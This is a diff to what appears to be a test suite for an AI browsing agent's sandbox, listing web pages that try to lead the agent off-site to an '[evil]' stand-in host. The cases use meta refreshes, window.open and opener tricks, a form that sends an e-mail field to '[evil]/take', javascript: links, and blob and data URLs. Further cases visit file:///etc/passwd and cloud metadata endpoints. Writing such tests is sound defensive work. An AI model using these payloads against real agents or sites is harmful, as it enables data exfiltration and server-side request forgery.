@@ -86,8 +86,8 @@ LEAVING = [
     Case("a refresh", "<meta http-equiv=refresh content='0;url=[evil]/a'>", (GONE, call("wait", None, seconds=0.2)), reaches=True),
     case("a refresh by header", "", call("navigate", None, url="/soon"), reaches=True,
          pages={"/soon": Answer("<p>Soon", 200, {"Refresh": "0;url=[evil]/a"})}),
-    case("a window", "<button onclick=\"open('[evil]/a')\">Open</button>", click("Open"), call("list_tabs", None), reaches=True),
-    case("a window's opener", "<button onclick=\"open('/child')\">Open</button>", click("Open"), reaches=True,
+    case("a window", "<button onclick=\"window.open('[evil]/a')\">Open</button>", click("Open"), call("list_tabs", None), reaches=True),
+    case("a window's opener", "<button onclick=\"window.open('/child')\">Open</button>", click("Open"), reaches=True,
          pages={"/child": Answer("<script>opener.location = '[evil]/a'</script>")}),
     case("a link for a new window", "<a target=_blank rel=opener href='[evil]/a'>More</a>", click("More"), reaches=True),
     case("a form's target", "<form method=post action='[evil]/take' aria-label=Trap><label>E-mail <input name=email></label>"
@@ -96,8 +96,8 @@ LEAVING = [
          "<button formaction='[evil]/take'>Send</button></form>", call("fill_form", None, submit=True), reaches=True),
     case("a base", "<base href='[evil]/'><a href=a>More</a><img src=b.png>", click("More"), reaches=True),
     case("a link of script", "<a href=\"javascript:location.href='[evil]/a'\">More</a>", click("More"), reaches=True),
-    case("a page that goes by itself", script("setTimeout(() => location.replace('[evil]/a'), 50)"),
-         call("wait", None, seconds=0.2), reaches=True),
+    Case("a page that goes by itself", script("setTimeout(() => location.replace('[evil]/a'), 50)"),
+         (GONE, call("wait", None, seconds=0.2)), reaches=True),
     Case("an answer to a dialog", script("onload = () => { if (confirm('Go?')) location = '[evil]/' + prompt('Where?', 'a') }"),
          (GONE, call("wait", None, seconds=0.2)), reaches=True),
     case("frames and objects", "<iframe src='[evil]/a'></iframe><object data='[evil]/b'></object><embed src='[evil]/c'>"
@@ -137,7 +137,7 @@ LEAVING = [
          visit("file:///etc/passwd"), visit("file://[outside]"), visit("view-source:[site]/home"), READ, visit("chrome://version"),
          visit("data:text/html,<h1>hi"), visit("javascript:alert(1)"), click("File"), call("open_tab", "blocked", url="file://[outside]")),
     case("data and blobs", script("const u = URL.createObjectURL(new Blob(['<img src=\"[evil]/blob\">'], {type: 'text/html'}));"
-         "open(u); const f = document.createElement('iframe'); f.src = 'data:text/html,<img src=\"[evil]/data\">'; document.body.append(f)"),
+         "window.open(u); const f = document.createElement('iframe'); f.src = 'data:text/html,<img src=\"[evil]/data\">'; document.body.append(f)"),
          call("list_tabs", None), READ),
     case("metadata of a cloud", "<img src='http://169.254.169.254/latest/meta-data/'><p>Go to your metadata",
          visit("http://169.254.169.254/latest/meta-data/"), visit("http://metadata.google.internal/")),
